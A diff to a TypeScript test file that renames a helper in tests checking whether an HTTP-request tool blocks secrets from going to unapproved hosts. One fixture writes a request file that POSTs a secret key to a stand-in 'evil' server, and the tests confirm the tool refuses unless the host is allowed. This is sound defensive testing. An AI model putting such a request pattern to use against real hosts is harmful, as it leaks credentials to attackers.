@@ -172,7 +172,7 @@ const ways: Record<string, Way> = {
 describe('a repository that wants the secrets of the machine', () => {
   const application = useServer();
   const evil = useServer();
-  const { path: inFolder, settings, write, run } = useProgram();
+  const { path: inFolder, settings, write, call } = useProgram();
   const outside = path.join(os.tmpdir(), `hydrogen-outside-${process.pid}`);
   after(() => rm(outside, { recursive: true, force: true }));
 
@@ -210,7 +210,7 @@ describe('a repository that wants the secrets of the machine', () => {
         HYDROGEN_ALLOW_HOSTS: new URL(application.origin).host,
         ...way.env,
       };
-      const { code, out, errors } = await run(['--env', 'Staging', ...(way.args ?? [])], env);
+      const { code, out, errors } = await call(['--env', 'Staging', ...(way.args ?? [])], env);
       for (const file of Object.keys({ ...way.files, ...way.links })) await rm(inFolder(file), { force: true });
       assert.equal(code, way.code ?? 2, out + errors);
       const { host } = new URL(evil.origin);
@@ -227,16 +227,16 @@ describe('a repository that wants the secrets of the machine', () => {
     await write('a.hydrogen.http', `POST ${evil.origin}/\n\n{{$secret key}}`);
     const { host } = new URL(evil.origin);
     const env = { HYDROGEN_SECRET_KEY: secret, HYDROGEN_ALLOW_HOSTS: '' };
-    const { out } = await run(['--env', 'Staging'], env);
+    const { out } = await call(['--env', 'Staging'], env);
     assert.ok(out.includes(`would go to ${host}. If you trust that host, add --allow-host ${host}.`), out);
-    assert.equal((await run(['--env', 'Staging', '--allow-host', host], env)).code, 0);
-    assert.equal((await run(['--env', 'Staging'], { ...env, HYDROGEN_ALLOW_HOSTS: host })).code, 0);
+    assert.equal((await call(['--env', 'Staging', '--allow-host', host], env)).code, 0);
+    assert.equal((await call(['--env', 'Staging'], { ...env, HYDROGEN_ALLOW_HOSTS: host })).code, 0);
     assert.deepEqual(
       evil.received.map(({ body }) => body),
       [secret, secret],
     );
     for (const wrong of ['https://a.example', '*', 'a b/c', '*.example.com'])
-      assert.equal((await run(['--env', 'Staging', '--allow-host', wrong], env)).code, 2, wrong);
+      assert.equal((await call(['--env', 'Staging', '--allow-host', wrong], env)).code, 2, wrong);
   });
 
   it('sends the credentials of an upload to its storage host', async () => {
@@ -247,7 +247,7 @@ describe('a repository that wants the secrets of the machine', () => {
     const fields = '{{upload.response.body.authorization}}\n{{upload.response.body.policy}}';
     await write('a.hydrogen.http', `### one\n${upload}### two\nPOST {{upload.response.body.upload_url}}\n\n${fields}`);
     const env = { HYDROGEN_ALLOW_HOSTS: new URL(application.origin).host };
-    const { code, out, errors } = await run(['--env', 'Staging'], env);
+    const { code, out, errors } = await call(['--env', 'Staging'], env);
     assert.equal(code, 0, out + errors);
     assert.deepEqual(
       evil.received.map(({ body }) => body),
